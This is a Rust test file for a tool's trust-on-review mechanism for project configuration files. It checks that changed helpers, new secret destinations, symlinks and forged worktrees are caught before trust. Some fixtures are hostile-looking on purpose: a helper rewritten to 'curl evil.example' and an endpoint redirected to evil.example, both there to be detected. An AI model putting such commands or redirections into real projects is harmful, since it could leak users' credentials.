//! A cloned repository has no effect until the user has seen what it would change and has trusted it.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Output};

use crate::support::sandbox::{Sandbox, text};

const FILE: &str = "project/.ccrun.toml";

/// A project whose file runs a helper from the repository.
fn sandbox() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write(
        FILE,
        r#"
[team]
id = "platform"
[destination.team]
endpoint = "https://otlp.example"
headers.Authorization = { command = ["./token", "--for", "a b"] }
"#,
    );
    sandbox.write("project/token", "#!/bin/sh\n");
    sandbox
}

/// The stdout and stderr of a command that exits with this code.
fn printed(output: &Output, code: i32) -> (String, String) {
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(code), "{stdout}\n{stderr}");
    (stdout, stderr)
}

fn hash(shown: &str) -> String {
    shown.lines().find_map(|line| line.strip_prefix("SHA-256 ")).expect("a hash is shown").to_owned()
}

#[test]
fn without_a_terminal_the_plan_is_shown_and_nothing_is_trusted() {
    let sandbox = sandbox();
    let (shown, said) = printed(&sandbox.run(["trust"]), 1);
    for part in [
        "runs\n  ./token --for \"a b\"\n",
        "team → https://otlp.example\n",
        "+ team.id = \"platform\"\n",
        "depends on\n  token\n",
    ] {
        assert!(shown.contains(part), "{part} is missing from {shown}");
    }
    assert!(said.contains("nothing was trusted: there is no terminal to confirm on") && said.lines().count() == 1);
    assert!(printed(&sandbox.run(["untrust"]), 0).0.contains("was not trusted"));
}

#[test]
fn a_reviewed_file_is_trusted_by_its_hash() {
    let sandbox = sandbox();
    let hash = hash(&printed(&sandbox.run(["trust"]), 1).0);
    let other = "0".repeat(64);
    assert!(printed(&sandbox.run(["trust", "--hash", &other]), 1).1.contains("does not match"));
    printed(&sandbox.run(["trust", "--hash", "0"]), 2);
    let accepted = printed(&sandbox.run(["trust", "--hash", &hash.to_uppercase()]), 0);
    assert!(accepted.0.ends_with("is trusted\n") && accepted.0.lines().count() == 1 && accepted.1.is_empty());
    assert!(printed(&sandbox.run(["trust"]), 0).0.contains("is already trusted"));
    // From a subdirectory, and by the path of the directory or the file.
    std::fs::create_dir(sandbox.project().join("below")).unwrap();
    for path in ["below", ".ccrun.toml", sandbox.project().to_str().unwrap()] {
        assert!(printed(&sandbox.run(["trust", path]), 0).0.contains("is already trusted"), "{path}");
    }
    assert!(printed(&sandbox.run(["untrust", "below"]), 0).0.contains("is no longer trusted"));
    printed(&sandbox.run(["trust"]), 1);
}

#[test]
fn a_change_is_shown_and_needs_trust_again() {
    let sandbox = sandbox();
    let (shown, said) = printed(&sandbox.run(["trust", "--yes"]), 0);
    assert!(shown.contains("runs\n") && shown.ends_with("is trusted\n") && said.is_empty());
    sandbox.write("project/token", "#!/bin/sh\ncurl evil.example\n");
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    assert!(shown.contains("Changes since it was trusted on ") && shown.contains("`token` has changed\n"), "{shown}");
    printed(&sandbox.run(["trust", "--yes"]), 0);
    let before = std::fs::read_to_string(sandbox.project().join(".ccrun.toml")).unwrap();
    sandbox.write(FILE, before.replace("otlp.example", "evil\u{1b}.example"));
    let (shown, _) = printed(&sandbox.run(["trust"]), 2);
    assert_eq!(shown, "");
    sandbox.write(FILE, before.replace("otlp.example", "evil.example"));
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    assert!(
        shown.contains("- endpoint = \"https://otlp.example\"\n+ endpoint = \"https://evil.example\"\n"),
        "{shown}"
    );
    assert!(shown.contains("a secret goes to a new host: "), "{shown}");
}

#[test]
fn trust_is_refused_inside_claude() {
    let mut sandbox = sandbox();
    sandbox.set("CLAUDECODE", "1");
    for arguments in [&["trust", "--yes"][..], &["trust"], &["untrust"]] {
        let (shown, said) = printed(&sandbox.run(arguments), 1);
        assert!(shown.is_empty() && said.lines().count() == 1 && said.contains("inside a Claude session"));
    }
    assert!(!sandbox.state().join("trust").exists());
}

#[test]
fn a_file_that_cannot_be_read_in_full_is_not_trusted() {
    let sandbox = Sandbox::new();
    assert!(printed(&sandbox.run(["trust"]), 1).1.contains("there is no `.ccrun.toml`"));
    assert!(printed(&sandbox.run(["untrust"]), 1).1.contains("there is no `.ccrun.toml`"));
    let path = sandbox.project().join(".ccrun.toml");
    symlink("/dev/zero", &path).unwrap();
    assert!(printed(&sandbox.run(["trust", "--yes"]), 2).1.contains("is a link, which is never followed"));
    std::fs::remove_file(&path).unwrap();
    sandbox.write(FILE, "[destination\n");
    assert!(printed(&sandbox.run(["trust", "--yes"]), 2).1.contains(".ccrun.toml:1:"));
    sandbox.write(FILE, "[destination.d.tls]\nca = \"ca\"\n");
    symlink("/dev/zero", sandbox.project().join("ca")).unwrap();
    let (_, said) = printed(&sandbox.run(["trust", "--yes"]), 2);
    assert!(said.contains("a file that the project's file names is a link") && said.contains("`ca`"), "{said}");
}

#[test]
fn trust_can_be_revoked_after_the_file_is_gone() {
    let sandbox = sandbox();
    printed(&sandbox.run(["trust", "--yes"]), 0);
    std::fs::remove_file(sandbox.project().join(".ccrun.toml")).unwrap();
    assert!(printed(&sandbox.run(["untrust"]), 0).0.contains("is no longer trusted"));
    assert!(printed(&sandbox.run(["untrust"]), 1).1.contains("there is no `.ccrun.toml`"));
}

#[test]
fn git_worktrees_share_trust() {
    let git = |sandbox: &Sandbox, directory: &Path, arguments: &[&str]| {
        let identity = ["-c", "user.name=a", "-c", "user.email=a@example.com"];
        let mut command: Command = sandbox.command("git");
        let output = command.current_dir(directory).args(identity).args(arguments).output().unwrap();
        assert!(output.status.success(), "{}", text(&output.stderr));
    };
    if which::which("git").is_err() {
        return;
    }
    let sandbox = sandbox();
    git(&sandbox, &sandbox.project(), &["init", "-q"]);
    git(&sandbox, &sandbox.project(), &["add", "."]);
    git(&sandbox, &sandbox.project(), &["commit", "-qm", "one"]);
    git(&sandbox, &sandbox.project(), &["worktree", "add", "-q", "../linked"]);
    let linked = sandbox.project().parent().unwrap().join("linked");
    let linked = linked.to_str().unwrap();
    printed(&sandbox.run(["trust", linked]), 1);
    printed(&sandbox.run(["trust", "--yes"]), 0);
    assert!(printed(&sandbox.run(["trust", linked]), 0).0.contains("is already trusted"));
    // A copy that claims to be the worktree, but is not where the repository has registered it.
    git(&sandbox, &sandbox.project(), &["clone", "-q", ".", "../forged"]);
    let forged = sandbox.project().parent().unwrap().join("forged");
    std::fs::remove_dir_all(forged.join(".git")).unwrap();
    std::fs::copy(Path::new(linked).join(".git"), forged.join(".git")).unwrap();
    printed(&sandbox.run(["trust", forged.to_str().unwrap()]), 1);
    assert!(printed(&sandbox.run(["untrust", linked]), 0).0.contains("is no longer trusted"));
    printed(&sandbox.run(["trust"]), 1);
}

/// The attributes of a program launched in the project, and stderr.
fn launched(sandbox: &Sandbox, options: &[&str]) -> (String, String) {
    let output = sandbox.run(options.iter().chain(&["sh", "-c", "echo $OTEL_RESOURCE_ATTRIBUTES"]));
    printed(&output, 0)
}

#[test]
fn a_project_file_applies_only_while_trusted() {
    let sandbox = Sandbox::new();
    sandbox.profile("ours", "[resource]\nfrom = \"ours\"\nours = \"1\"\n");
    sandbox.write(FILE, "profile = \"ours\"\n[resource]\nfrom = \"project\"\n");
    let untrusted = launched(&sandbox, &[]);
    assert_eq!(untrusted.0, "\n");
    assert!(untrusted.1.contains("is not trusted, so it is ignored: `ccrun trust` shows"), "{}", untrusted.1);
    assert_eq!(untrusted.1.lines().count(), 1);

    printed(&sandbox.run(["trust", "--yes"]), 0);
    assert_eq!(launched(&sandbox, &[]), ("from=project,ours=1\n".to_owned(), String::new()));
    assert_eq!(launched(&sandbox, &["-r", "from=option"]).0, "from=option,ours=1\n");
    assert_eq!(
        launched(&sandbox, &["-p", "local"]).0,
        "from=project\n",
        "the project file also applies to another profile"
    );
    let shown = printed(&sandbox.run(["profile", "show"]), 0).0;
    assert!(shown.contains("resource.from = \"project\"") && shown.contains(".ccrun.toml:3:8"), "{shown}");
    let listed = printed(&sandbox.run(["profile", "list"]), 0).0;
    assert!(listed.contains(".ccrun.toml` also applies here\n"), "{listed}");

    sandbox.write(FILE, "profile = \"ours\"\n[resource]\nfrom = \"forged\"\n");
    let changed = launched(&sandbox, &[]);
    assert_eq!(changed.0, "\n");
    assert!(changed.1.contains("has changed since it was trusted, so it is ignored"), "{}", changed.1);
    printed(&sandbox.run(["trust", "--yes"]), 0);
    assert_eq!(launched(&sandbox, &[]).0, "from=forged,ours=1\n");
    printed(&sandbox.run(["untrust"]), 0);
    assert!(launched(&sandbox, &[]).1.contains("is not trusted"));
}

#[test]
fn a_trusted_project_gets_no_secret_that_it_did_not_have() {
    let sandbox = Sandbox::new();
    let profile = |headers: &str| sandbox.profile("ours", format!("extends = \"otlp\"\n{headers}"));
    profile("");
    sandbox.write(FILE, "profile = \"ours\"\n[vars]\nendpoint = \"https://project.example\"\n[team]\nid = \"p\"\n");
    printed(&sandbox.run(["trust", "--yes"]), 0);
    assert_eq!(launched(&sandbox, &[]).0, "team.id=p\n");
    profile("[destination.otlp.headers]\nx-key = { env = \"KEY\" }\n");
    let (attributes, said) = launched(&sandbox, &[]);
    assert!(attributes == "\n" && said.contains("has changed since it was trusted"), "{attributes} {said}");
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    assert!(shown.contains("x-key: { env = KEY } → https://project.example"), "{shown}");
    printed(&sandbox.run(["trust", "--yes"]), 0);
    assert_eq!(launched(&sandbox, &[]).0, "team.id=p\n");
}

#[test]
fn an_untrusted_file_causes_no_fetch_and_no_delay() {
    let sandbox = Sandbox::new();
    let fifo = sandbox.project().join("fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    sandbox.write(FILE, "[vars]\nx = { file = \"fifo\" }\n");
    assert!(launched(&sandbox, &[]).1.contains("is not trusted"));
    assert!(printed(&sandbox.run(["trust", "--yes"]), 2).1.contains("fifo"));
    std::fs::remove_file(sandbox.project().join(".ccrun.toml")).unwrap();
    symlink("/dev/stdin", sandbox.project().join(".ccrun.toml")).unwrap();
    assert!(launched(&sandbox, &[]).1.contains("is a link"));
}

#[test]
fn a_literal_key_is_shown_as_redirected_but_never_revealed() {
    let sandbox = Sandbox::new();
    let team = "[destination.d]\nendpoint = \"https://ours:1\"\nheaders.x-key = \"sk-secret\"\n";
    sandbox.profile("team", team);
    sandbox.write("project/.ccrun.toml", "profile = \"team\"\n[destination.d]\nendpoint = \"https://theirs:1\"\n");
    let shown = text(&sandbox.run(["trust"]).stdout);
    let line = shown.lines().find(|line| line.contains("x-key: what ")).unwrap_or_default();
    assert!(line.contains("team.toml") && !shown.contains("sk-secret"), "{shown}");
    assert!(shown.contains("→ https://theirs:1"), "{shown}");
}

#[test]
fn a_client_secret_is_shown_as_sent_to_the_projects_host_but_never_revealed() {
    let sandbox = Sandbox::new();
    let oauth2 = |url: &str, secret: &str| {
        format!("{{ oauth2 = {{ token_url = \"{url}\", client_id = \"us\", client_secret = {secret} }} }}")
    };
    let destination = "[destination.d]\nendpoint = \"https://ours:1\"\n";
    sandbox.profile("team", destination);
    let headers = |source: String| format!("profile = \"team\"\n[destination.d.headers]\nx-key = {source}\n");
    sandbox.write(FILE, headers(oauth2("https://theirs/token", "[{ env = \"KEY\" }, { keyring = \"team\" }]")));
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    let shown = shown.split_whitespace().collect::<Vec<_>>().join(" ");
    let pair = "x-key: the client's secret [{ env = KEY }, { keyring = team }] → https://theirs/token";
    assert!(shown.contains(pair), "{shown}");

    // A secret in plain text in the user's profile, and a project variable that may be part of the URL.
    sandbox.profile("team", format!("{destination}headers.x-key = {}\n", oauth2("https://${idp}/t", "\"sk-secret\"")));
    sandbox.write(FILE, "profile = \"team\"\n[vars]\nidp = \"theirs\"\n");
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    let joined: String = shown.split_whitespace().collect();
    assert!(joined.contains("team.tomlsays→https://theirs/t") && !shown.contains("sk-secret"), "{shown}");
    printed(&sandbox.run(["trust", "--yes"]), 0);
    let records = std::fs::read_dir(sandbox.state().join("trust")).unwrap();
    for record in records {
        assert!(!std::fs::read_to_string(record.unwrap().path()).unwrap().contains("sk-secret"));
    }
}

#[test]
fn a_helpers_output_is_shown_as_sent_to_the_projects_host() {
    let sandbox = Sandbox::new();
    let helper = "headers_helper.command = [\"/usr/bin/otel-headers\"]";
    sandbox.profile("team", format!("[destination.d]\nendpoint = \"https://ours:1\"\n{helper}\n"));
    sandbox.write("project/.ccrun.toml", "profile = \"team\"\n[destination.d]\nendpoint = \"https://theirs:1\"\n");
    let shown = text(&sandbox.run(["trust"]).stdout);
    let line = shown.lines().find(|line| line.contains("headers_helper: ")).unwrap_or_default();
    assert!(line.contains("/usr/bin/otel-headers") && line.contains("→ https://theirs:1"), "{shown}");
}

/// Writes a program into the project that prints this.
fn helper(sandbox: &Sandbox, name: &str, says: &str) {
    use std::os::unix::fs::PermissionsExt;
    let path = sandbox.write(Path::new("project").join(name), format!("#!/bin/sh\necho {says}\n"));
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn only_the_reviewed_helper_runs() {
    let sandbox = Sandbox::new();
    helper(&sandbox, "good", "good");
    helper(&sandbox, "${h}", "evil");
    sandbox.write(FILE, "[vars]\nh = \"good\"\n[team]\nid = { command = [\"./${h}\"] }\n");
    let (shown, _) = printed(&sandbox.run(["trust", "--yes"]), 0);
    assert!(shown.contains("runs\n  ./good\n") && shown.contains("\n  good\n"), "{shown}");
    assert_eq!(launched(&sandbox, &[]).0, "team.id=good\n");
}

#[test]
fn a_file_named_through_a_variable_counts() {
    for (profile, file) in [
        (
            "",
            "[destination.d]\nendpoint = \"https://h\"\nheaders.x = { command = [\"./${h}\"] }\n[vars]\nh = \"helper\"\n",
        ),
        ("", "[env]\nNODE_OPTIONS = \"--require=./${h}\"\n[vars]\nh = \"helper\"\n"),
        ("[vars]\nh = \"helper\"\n", "[team]\nid = { command = [\"./${h}\"] }\n"),
        ("[team]\nid = { command = [\"cat\", \"${h}\"] }\n", "[vars]\nh = \"project/helper\"\n"),
        ("", "[destination.d]\nendpoint = \"https://h\"\ntls.ca = \"${h}\"\n[vars]\nh = \"helper\"\n"),
    ] {
        let sandbox = Sandbox::new();
        // Helpers run in the home directory, which is next to the project here.
        let file = file.replace("project/helper", sandbox.project().join("helper").to_str().unwrap());
        helper(&sandbox, "helper", "one");
        sandbox.profile("base", profile);
        sandbox.write(FILE, format!("extends = \"base\"\n{file}"));
        let (shown, _) = printed(&sandbox.run(["trust", "--yes"]), 0);
        assert!(shown.contains("depends on\n  helper\n"), "{file}: {shown}");
        helper(&sandbox, "helper", "two");
        let said = launched(&sandbox, &[]).1;
        assert!(said.contains("has changed since it was trusted"), "{file}: {said}");
    }
}

#[test]
fn a_change_of_any_program_below_an_untrackable_script_needs_trust_again() {
    let sandbox = Sandbox::new();
    helper(&sandbox, "tools/x", "one");
    let root = sandbox.project().canonicalize().unwrap();
    let script = format!("cd {}/tools && ./x", root.display());
    sandbox.write(FILE, format!("[team]\nid = {{ command = [\"sh\", \"-c\", \"{script}\"] }}\n"));
    let (shown, _) = printed(&sandbox.run(["trust", "--yes"]), 0);
    assert!(shown.contains("any executable file below tools\n") && shown.contains("  tools/x\n"), "{shown}");
    assert_eq!(launched(&sandbox, &[]).0, "team.id=one\n");
    helper(&sandbox, "tools/y", "new");
    assert!(launched(&sandbox, &[]).1.contains("has changed since it was trusted"));
    let (shown, _) = printed(&sandbox.run(["trust", "--yes"]), 0);
    assert!(shown.contains("`tools/y` is new\n"), "{shown}");
    helper(&sandbox, "tools/x", "two");
    assert!(launched(&sandbox, &[]).1.contains("has changed since it was trusted"));
}

/// A project file can remove settings as well as add them. Both are shown compared with the user's profile.
#[test]
fn all_changes_of_a_project_are_shown_with_data_leaks_first() {
    let sandbox = Sandbox::new();
    sandbox.profile(
        "mine",
        "[team]\nid = \"mine\"\n[signals]\ntraces = false\n[cardinality]\nrepository = false\nsession_id = false\n\
         [redact]\ndrop = [\"user.email\", \"a\"]\nhash = [\"b\"]\n[env]\nKEY = \"sk-mine\"\n\
         [destination.keep]\nendpoint = \"https://keep\"\nheaders.x-key = { keyring = \"k\" }\n\
         [destination.gone]\nendpoint = \"https://gone\"\n",
    );
    sandbox.write("home/.config/ccrun/config.toml", "profile = \"mine\"\n");
    sandbox.write(
        FILE,
        "unset = [\"redact.hash\", \"destination.gone\", \"cardinality.session_id\", \"env.KEY\"]\n\
         [team]\nid = \"theirs\"\n[resource]\nid = \"other\"\n\
         [signals]\ntraces = true\nmetric_interval = \"1s\"\n[cardinality]\nrepository = true\n\
         [content]\nuser_prompts = true\ntool_details = false\n[redact]\ndrop = [\"a\"]\n\
         [collector]\nmode = \"direct\"\naccept = [\"*\"]\n[settings]\nmodel = \"opus\"\n",
    );
    let (shown, _) = printed(&sandbox.run(["trust"]), 1);
    let (before, besides) = shown.split_once("also changes\n").unwrap();
    let (_, first) = before.split_once("may run more or send more\n").unwrap();
    for line in [
        "- destination.gone.endpoint = \"https://gone\"",
        "- redact.drop = [\"user.email\", \"a\"]",
        "+ redact.drop = [\"a\"]",
        "- redact.hash = [\"b\"]",
        "- cardinality.session_id = false",
        "+ cardinality.repository = true",
        "+ content.user_prompts = true",
        "+ signals.traces = true",
        "+ collector.mode = \"direct\"  # headers are",
        "+ collector.accept = [\"*\"]",
        "+ settings.model = \"opus\"",
        "- env.KEY = what ",
    ] {
        assert!(first.contains(&format!("  {line}")), "{line} is missing from {first}");
    }
    for line in [
        "- team.id = \"mine\"",
        "+ team.id = \"theirs\"",
        "+ resource.id = \"other\"",
        "+ signals.metric_interval = \"1s\"",
        "+ content.tool_details = false",
    ] {
        assert!(besides.contains(&format!("  {line}\n")), "{line} is missing from {besides}");
    }
    assert!(shown.contains("x-key: { keyring = k } → the program's environment"), "{shown}");
    assert!(!shown.contains("sk-mine"), "{shown}");
}
